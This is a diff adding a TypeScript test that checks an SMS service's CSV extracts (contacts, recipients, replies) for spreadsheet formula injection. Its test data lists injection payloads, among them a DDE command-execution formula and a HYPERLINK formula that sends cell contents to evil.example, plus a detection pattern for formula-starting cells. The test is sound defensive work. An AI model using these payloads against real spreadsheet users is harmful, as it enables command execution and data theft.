@@ -1,0 +1,100 @@
+import { strict as assert } from 'node:assert'
+import { parse } from 'csv-parse/sync'
+import { toCell } from '../../src/http/extract.ts'
+import { startService, test } from '../service.ts'
+import { readOperations } from './document.ts'
+
+/** What spreadsheets run, in the ways that are known to get past a careless export. */
+const FORMULAS = [
+  '=1+1',
+  '+1+1',
+  '-2+3',
+  '@SUM(A1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("https://evil.example?x="&A1,"Cliquez")',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(A1)',
+  'rien;=1+1',
+  'rien;@SUM(A1);',
+  'rien\t=1+1',
+  'rien\n=1+1',
+  'rien\r\n-2+3',
+  '";=1+1;"',
+  '=1+1";=2+2'
+]
+const RUNS = /^[\t\r\n]*[=+\-@＝＋－＠]/
+const PLAIN_NUMBER = /^[+-]?\d+$/
+
+/** Every cell as some spreadsheet would see it, whichever separator it takes for its own. */
+function cellsSeen(csv: string): string[] {
+  return [',', ';', '\t'].flatMap((delimiter) => {
+    const rows = parse(csv, {
+      delimiter,
+      relaxQuotes: true,
+      relaxColumnCount: true,
+      recordDelimiter: ['\r\n', '\n', '\r']
+    })
+    return (rows as string[][]).flat()
+  })
+}
+
+test('no cell of any CSV extract begins as a formula, however a spreadsheet splits it', async (t) => {
+  const { newAccount, pool, url } = await startService(t)
+  const account = await newAccount({ credits: 1_000 })
+  const list = (await account.expect(200).post('/contactlists', { name: 'x' })).body.id
+  const contacts = FORMULAS.map((text, index) => ({
+    tel: `06399801${String(index).padStart(2, '0')}`,
+    champ_nom: text,
+    champ_perso1: text
+  }))
+  await account.expect(200).post('/contacts', { contactlist_id: list, contacts })
+  const recipients = FORMULAS.map((text, index) => ({ recipient: `06399801${String(index).padStart(2, '0')}`, text }))
+  const send = { recipients, content: '#text#', scheduleAt: new Date(Date.now() + 86_400_000).toISOString() }
+  const message = (await account.expect(200).post('/messages/sms/dynamic', send)).body.message_id
+  for (const [index, text] of FORMULAS.entries()) {
+    await pool`
+      insert into replies (account_id, id, phone, written_to, channel, content, is_stop)
+      values (${account.id}, ${index + 1}, '+33639980101', ${text}, 'sms', ${text}, false)
+    `
+  }
+
+  const extracts = (await readOperations(url)).filter(({ path }) => /extract$/.test(path))
+  assert.deepEqual(extracts.map(({ id }) => id).toSorted(), [
+    'extractContacts',
+    'extractReplies',
+    'extractSmsRecipients'
+  ])
+  for (const { path } of extracts) {
+    const id = path.startsWith('/contactlists') ? list : message
+    const { text, headers } = await account.expect(200).get(path.replace('{id}', String(id)), { accept: 'text/csv' })
+    assert.match(headers.get('content-type') ?? '', /^text\/csv/)
+    const cells = cellsSeen(text)
+    assert.ok(cells.length > 3 * FORMULAS.length, path)
+    for (const cell of cells) assert.ok(!RUNS.test(cell) || PLAIN_NUMBER.test(cell), `${path}: ${JSON.stringify(cell)}`)
+    // A spreadsheet that takes the comma shows the words as they were, with one mark before what it would have run.
+    const marked = (parse(text, { relaxColumnCount: true }) as string[][]).flat().join('\n')
+    assert.ok(marked.includes('\'=HYPERLINK("https://evil.example?x="&A1,"Cliquez")'), path)
+  }
+})
+
+test('what is no formula stays as it is: numbers, dates, words with signs in them', () => {
+  for (const [value, cell] of [
+    ['+33639980001', '+33639980001'],
+    [-5, '-5'],
+    ['2026-11-15T09:30:00.000Z', '2026-11-15T09:30:00.000Z'],
+    ['a=b', 'a=b'],
+    ['à 10 % - tout', 'à 10 % - tout'],
+    ['un; deux', '"un; deux"'],
+    ['dit "oui"', '"dit ""oui"""'],
+    ['un\r\ndeux', '"un\r\ndeux"'],
+    [null, ''],
+    [true, 'true']
+  ] as const) {
+    assert.equal(toCell(value), cell)
+  }
+})
